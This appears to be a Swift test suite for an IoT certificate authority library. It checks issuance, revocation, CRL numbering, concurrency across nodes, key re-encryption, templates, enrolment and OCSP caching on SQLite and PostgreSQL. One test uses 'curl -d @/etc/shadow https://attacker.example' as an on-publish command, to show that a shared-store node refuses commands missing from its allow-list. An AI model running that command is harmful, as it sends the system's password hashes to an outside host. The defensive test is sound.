import Crypto
import Foundation
@testable import IoTCAKit
import Synchronization
import Testing
import TestSupport
import X509

/// The store's invariants, run on each engine: a folder (SQLite) and a PostgreSQL database.
/// The same library operations on both; where a test stands in for several nodes, it opens the
/// store more than once (each `Store` its own connections, as a second process or machine
/// would). Every certificate and CRL made is checked by openssl.
@Suite struct SharedStoreTests {
    static let backends = TemporaryStore.Backend.allCases

    /// A second opening of the fixture's store: another node, with its own keyring.
    func node(_ fixture: TemporaryStore) throws -> Keyring { try fixture.anotherNode() }

    /// A `meter` template (the device template with `validity`) in a file of the fixture's folder.
    func meterTemplate(_ fixture: TemporaryStore, validity: String) throws -> URL { try fixture.meterTemplate(validity: validity) }

    /// Doctor's findings but the one every fixture has: its keys use the fast test KDF.
    func findings(_ report: Doctor.Report) -> [Finding] { report.findings.filter { $0.check != "kdf" } }

    @Test(arguments: backends)
    func issueRenewRevokeAndPublishKeepTheRecordWhole(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let authority = CertificateAuthority(keyring: fixture.keyring)
        let first = try fixture.issue(IssueRequest(thing: "meter-1"))
        #expect(try OpenSSLCLI.verifyBundle(first.folder).succeeded)
        // Twice: refused, nothing recorded.
        #expect(throws: IssuanceConflict.self) { try fixture.issue(IssueRequest(thing: "meter-1")) }
        let renewed = try authority.issue(IssueRequest(thing: "meter-1", renew: true, force: true, supersede: true), into: fixture.folder.appending("renewed"))
        #expect(try fixture.store.activeSerials(thing: "meter-1") == [renewed.entry.serial])
        let revoked = try authority.revoke(.thing("meter-1"), reason: .keyCompromise)
        #expect(revoked.revoked.map(\.serial) == [renewed.entry.serial])
        // Revoking again: a conflict, the record unchanged.
        #expect(throws: RevocationError.self) { try authority.revoke(.serial(renewed.entry.serial, authority: nil)) }
        let crl = try #require(try fixture.store.latestCRLDER(of: "issuing"))
        let crlFile = fixture.folder.appending("issuing.crl")
        try Data(crl.1).write(to: crlFile)
        let folder = fixture.folder.appending("renewed/meter-1")
        let check = try OpenSSLCLI.run(["verify", "-x509_strict", "-crl_check", "-CAfile", folder.appendingPathComponent("root.pem").path,
                                        "-untrusted", folder.appendingPathComponent("chain.pem").path, "-CRLfile", crlFile.path,
                                        folder.appendingPathComponent("cert.pem").path])
        #expect(!check.succeeded && (check.stdout + check.stderr).contains("certificate revoked"))
        #expect(try OpenSSLCLI.run(["crl", "-inform", "DER", "-in", crlFile.path, "-noout", "-text"]).stdout.contains(renewed.entry.serial.hex.uppercased()))
        let report = try authority.doctor()
        let head = try fixture.store.events().last?.hash
        #expect(findings(report).isEmpty, "\(report.findings)")
        #expect(report.certificates == 6 && report.head == head)
    }

    /// Text the record keeps as it was given, whatever JSON it passed through on the way (on
    /// PostgreSQL, the issuance function's argument): quotes, backslashes, slashes, non-ASCII.
    @Test(arguments: backends)
    func attributesAndAuditDetailsKeepEveryCharacter(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let label = "a \"quoted\" \\ back/slash, ünïcödé 🚀 </script>"
        let client = "station \"line-1\" \\ ø"
        _ = try AuditEvent.$client.withValue(client) {
            try fixture.issue(IssueRequest(thing: "meter-q", attributes: ["label": label, "line": "7"]))
        }
        let stored = try fixture.store.readOne { db in try db.value(String.self, "SELECT attributes FROM things WHERE name = ?", "meter-q") }
        let attributes = try JSONDecoder().decode([String: String].self, from: Data(try #require(stored).utf8))
        #expect(attributes == ["label": label, "line": "7"])
        let event = try #require(try fixture.store.events().last)
        let details = try JSONDecoder().decode([String: String].self, from: Data(event.details.utf8))
        #expect(details["client"] == client && event.action == "certificate.issue")
        let report = try CertificateAuthority(keyring: fixture.keyring).doctor()
        #expect(findings(report).isEmpty, "\(report.findings)")
    }

    /// Two nodes and eight threads each issue to the same things at once: one certificate per
    /// thing, every serial once, the audit chain one chain.
    @Test(arguments: backends)
    func nodesIssuingAtOnceLeaveOneCertificatePerThing(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let nodes = [fixture.keyring, try node(fixture)]
        let outcomes = Mutex<(issued: Int, refused: Int, other: [String])>((0, 0, []))
        DispatchQueue.concurrentPerform(iterations: 16) { lane in
            let node = CertificateAuthority(keyring: nodes[lane % 2])
            for round in 0..<6 {
                do {
                    _ = try node.issue(IssueRequest(thing: "contested-\(round)"), into: fixture.folder.appending("lane-\(lane)"))
                    outcomes.withLock { $0.issued += 1 }
                } catch is IssuanceConflict {
                    outcomes.withLock { $0.refused += 1 }
                } catch {
                    outcomes.withLock { $0.other.append("\(error)") }
                }
            }
        }
        let result = outcomes.withLock { $0 }
        #expect(result.other.isEmpty, "\(result.other)")
        #expect(result.issued == 6 && result.refused == 16 * 6 - 6)
        let active = try fixture.store.certificates(CertificateFilter(status: .active))
        #expect(Set(active.compactMap(\.thing)).count == 6 && active.count == 6)
        var everything = CertificateFilter()
        everything.includeAuthorities = true
        let all = try fixture.store.certificates(everything)
        #expect(Set(all.map { "\($0.authority)/\($0.serial.hex)" }).count == all.count)
        #expect(AuditEvent.firstBrokenLink(try fixture.store.events()) == nil)
        #expect(findings(try CertificateAuthority(keyring: nodes[1]).doctor()).isEmpty)
    }

    /// Two nodes publish the same CA's CRL at once, ten times each: every number once, in
    /// order, each thisUpdate no earlier than the one before; the node folders' files verify.
    @Test(arguments: backends)
    func crlNumbersStrictlyIncreaseHoweverManyNodesPublish(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        _ = try fixture.issue(IssueRequest(thing: "gone"))
        _ = try fixture.store.revoke(.thing("gone"), reason: .unspecified, invalidityDate: nil)
        let before = try fixture.store.crlNumbersInOrder()["issuing"]?.count ?? 0
        let nodes = [fixture.keyring, try node(fixture)]
        let failures = Mutex<[String]>([])
        DispatchQueue.concurrentPerform(iterations: 4) { lane in
            for _ in 0..<5 {
                do { _ = try CertificateAuthority(keyring: nodes[lane % 2]).publishCRLs(of: ["issuing"]) } catch { failures.withLock { $0.append("\(error)") } }
            }
        }
        #expect(failures.withLock { $0 }.isEmpty, "\(failures.withLock { $0 })")
        let numbers = try #require(try fixture.store.crlNumbersInOrder()["issuing"]).map(\.number)
        #expect(numbers == Array(1...Int64(numbers.count)) && numbers.count == before + 20)
        let (record, der) = try #require(try fixture.store.latestCRLDER(of: "issuing"))
        #expect(record.number == Int64(numbers.count) && record.entries == 1)
        let file = fixture.folder.appending("latest.crl")
        try Data(der).write(to: file)
        let text = try OpenSSLCLI.run(["crl", "-inform", "DER", "-in", file.path, "-noout", "-crlnumber"])
        #expect(text.stdout.contains("crlNumber=0x" + String(record.number, radix: 16).uppercased()), "\(text.stdout)")
        #expect(findings(try CertificateAuthority(keyring: nodes[0]).doctor()).isEmpty)
    }

    /// A batch re-run into the same output recovers a certificate recorded but never written,
    /// and never re-issues or revokes one that was delivered (the trust fix, on both engines).
    @Test(arguments: backends)
    func aBatchReRunRecoversWhatWasNotWrittenAndKeepsWhatWas(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let file = fixture.folder.appending("line.csv")
        try Data(("thing\n" + (0..<20).map { "unit-\($0)\n" }.joined()).utf8).write(to: file)
        let runner = BatchRunner(keyring: fixture.keyring)
        #expect(try runner.run(file: file, out: fixture.bundles, options: BatchOptions()).issued == 20)
        // A crash between commit and bundle, staged: unit-3's bundle gone, its row `recorded`.
        let lost = try #require(try fixture.store.activeSerials(thing: "unit-3").first)
        try fixture.store.setDelivery(.recorded, thing: "unit-3", serial: lost)
        try FileManager.default.removeItem(at: fixture.bundles.appendingPathComponent("unit-3"))
        let again = try runner.run(file: file, out: fixture.bundles, options: BatchOptions())
        #expect(again.recovered == 1 && again.skipped == 19 && again.issued == 0)
        #expect(try fixture.store.certificates(CertificateFilter(status: .revoked)).map(\.serial) == [lost])
        #expect(try fixture.store.certificates(CertificateFilter(status: .active)).count == 20)
        #expect(try OpenSSLCLI.verifyBundle(fixture.bundles.appendingPathComponent("unit-3")).succeeded)
    }

    /// Key files and templates are the store's on both engines: a CA made on one node signs on
    /// another; a passphrase change re-encrypts every key, and the old passphrase stops working.
    @Test(arguments: backends)
    func keyFilesAreSharedAndReEncryptedTogether(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let nodes = [CertificateAuthority(keyring: fixture.keyring), CertificateAuthority(keyring: try node(fixture))]
        _ = try nodes[0].createCA("site-b", parent: "root")
        let issued = try nodes[1].issue(IssueRequest(thing: "valve", authority: "site-b"), into: fixture.bundles)
        #expect(try OpenSSLCLI.verifyBundle(issued.folder).succeeded)
        let new = Passphrase("a new passphrase for the fleet")
        _ = try PassphraseChange(store: fixture.store).run(current: Passphrase(TemporaryStore.passphrase), new: new, protection: .insecureFastForTests)
        let reopened = Keyring(store: try Store.open(fixture.location, clock: fixture.clock.clock), passphrase: .fixed(new))
        #expect(try reopened.signer(for: try fixture.store.authority(named: "site-b"), toIssue: true).certificate.subject.description.contains("site-b"))
        let stale = Keyring(store: try Store.open(fixture.location, clock: fixture.clock.clock), passphrase: .fixed(Passphrase(TemporaryStore.passphrase)))
        #expect(throws: KeyError.self) { try stale.signer(for: try fixture.store.authority(named: "site-b"), toIssue: true) }
        // Exactly the referenced key files remain: the old ones went with the change.
        let referenced = try fixture.store.referencedKeyFiles()
        #expect(Set(try fixture.store.files.list("keys").map { "keys/" + $0 }) == referenced)
        #expect(findings(try Doctor(store: fixture.store, keyring: reopened).examine()).isEmpty)
    }

    /// A template added on one node is the store's: another node issues with it; adding it
    /// twice is refused unless replaced; removed, its name is unknown again.
    @Test(arguments: backends)
    func templatesAreTheStoresOnEveryNode(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let file = try meterTemplate(fixture, validity: "30d")
        let first = CertificateAuthority(keyring: fixture.keyring), second = CertificateAuthority(keyring: try node(fixture))
        _ = try first.addTemplate(from: file)
        #expect(throws: TemplateExists.self) { try first.addTemplate(from: file) }
        let issued = try second.issue(IssueRequest(thing: "gas-meter", template: "meter"), into: fixture.bundles)
        #expect(issued.entry.notAfter.timeIntervalSince(issued.entry.notBefore) <= 30 * 86_400 + 3_600)
        #expect(try OpenSSLCLI.verifyBundle(issued.folder).succeeded)
        #expect(second.templates().contains { $0.name == "meter" })
        try second.removeTemplate("meter")
        #expect(throws: PolicyError.templateNotFound("meter")) { try first.template("meter") }
        #expect(throws: PolicyError.templateNotFound("meter")) { try second.removeTemplate("meter") }
    }

    /// A node that keeps parsed templates (a service worker) sees another node replace one at
    /// once, on both engines.
    @Test(arguments: backends)
    func aTemplateReplacedOnOneNodeIsUsedAtOnceByAnother(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let file = try meterTemplate(fixture, validity: "30d")
        let first = CertificateAuthority(keyring: fixture.keyring), second = CertificateAuthority(keyring: try node(fixture))
        _ = try first.addTemplate(from: file)
        let before = try second.issue(IssueRequest(thing: "m-1", template: "meter"), into: fixture.bundles, format: .json)
        #expect(before.entry.notAfter.timeIntervalSince(before.entry.notBefore) > 29 * 86_400)
        _ = try first.addTemplate(from: try meterTemplate(fixture, validity: "10d"), replace: true)
        let after = try second.issue(IssueRequest(thing: "m-2", template: "meter"), into: fixture.bundles, format: .json)
        #expect(after.entry.notAfter.timeIntervalSince(after.entry.notBefore) <= 10 * 86_400 + IssuancePolicy.clockSkewAllowance)
    }

    /// On a shared store the on-publish command is a row any database writer could change: a
    /// node runs it only when its own folder's allow-list names it. A folder store runs it.
    @Test(arguments: backends)
    func aNodeRunsOnlyTheOnPublishCommandsItAllows(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let authority = CertificateAuthority(keyring: fixture.keyring)
        let ran = Mutex<[String]>([])
        fixture.keyring.publishHook = { command, _, _, _ in ran.withLock { $0.append(command) }; return nil }
        _ = try authority.configureCA("issuing", onPublish: "curl -d @/etc/shadow https://attacker.example")
        if backend == .postgres {
            let refused = #expect(throws: OnPublishFailed.self) { try authority.publishCRLs(of: ["issuing"]) }
            #expect(refused?.description.contains("on-publish.allow") == true)
            #expect(ran.withLock { $0 }.isEmpty)
            try OnPublishAllowList(nodeFolder: fixture.store.layout.root).add("curl -d @/etc/shadow https://attacker.example")
        }
        _ = try authority.publishCRLs(of: ["issuing"])
        #expect(ran.withLock { $0 } == ["curl -d @/etc/shadow https://attacker.example"])
    }

    /// An enrolment secret sent to two nodes eight times at once enrols once; a re-enrolled
    /// device's old certificate is superseded once when its grace has passed, however many
    /// nodes sweep.
    @Test(arguments: backends)
    func enrolmentIsOnceAcrossNodes(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let nodes = [fixture.keyring, try node(fixture)]
        let token = try CertificateAuthority(keyring: nodes[0]).createEnrolmentToken(thing: "raced")
        let key = P256.Signing.PrivateKey()
        let csr = Array(try CertificateSigningRequest(version: .v1, subject: try DistinguishedName { CommonName("raced") },
                                                      privateKey: .init(key), attributes: .init(), signatureAlgorithm: .ecdsaWithSHA256)
            .serializeAsPEM().pemString.utf8)
        let outcomes = Mutex<[String]>([])
        DispatchQueue.concurrentPerform(iterations: 8) { lane in
            let outcome: String
            do {
                _ = try CertificateAuthority(keyring: nodes[lane % 2]).enrol(thing: "raced", secret: token.secret, csr: csr)
                outcome = "enrolled"
            } catch let error as EnrolmentError {
                outcome = error == .invalidCredentials(thing: "raced") ? "refused" : "\(error)"
            } catch {
                outcome = "\(error)"
            }
            outcomes.withLock { $0.append(outcome) }
        }
        #expect(outcomes.withLock { $0.sorted() } == ["enrolled"] + Array(repeating: "refused", count: 7))
        #expect(try fixture.store.certificates(CertificateFilter(thing: "raced")).count == 1)
    }

    /// A node's OCSP responder caches its answers; a revocation recorded by another node must
    /// reach it at once (the store's revocation count, kept by triggers in both engines).
    @Test(arguments: backends)
    func aRevocationOnOneNodeReachesAnotherNodesOCSPCache(_ backend: TemporaryStore.Backend) throws {
        let fixture = try TemporaryStore(backend: backend)
        let issued = try fixture.issue(IssueRequest(thing: "lamp"))
        let request = fixture.folder.appending("request.der")
        #expect(try OpenSSLCLI.run(["ocsp", "-issuer", issued.folder.appendingPathComponent("chain.pem").path,
                                    "-cert", issued.folder.appendingPathComponent("cert.pem").path, "-no_nonce", "-reqout", request.path]).succeeded)
        let bytes = Array(try Data(contentsOf: request))
        let responder = OCSPResponder(keyring: fixture.keyring)
        func status() throws -> String {
            let answer = fixture.folder.appending("answer-\(UUID().uuidString).der")
            try Data(responder.answer(bytes).der).write(to: answer)
            let text = try OpenSSLCLI.run(["ocsp", "-respin", answer.path, "-resp_text", "-noverify"]).stdout
            return text.split(separator: "\n").first { $0.contains("Cert Status:") }.map { String($0).trimmingCharacters(in: .whitespaces) } ?? text
        }
        #expect(try status() == "Cert Status: good")
        #expect(try status() == "Cert Status: good")  // now cached
        _ = try node(fixture).store.revoke(.thing("lamp"), reason: .keyCompromise, invalidityDate: nil)
        #expect(try status() == "Cert Status: revoked")
    }
}
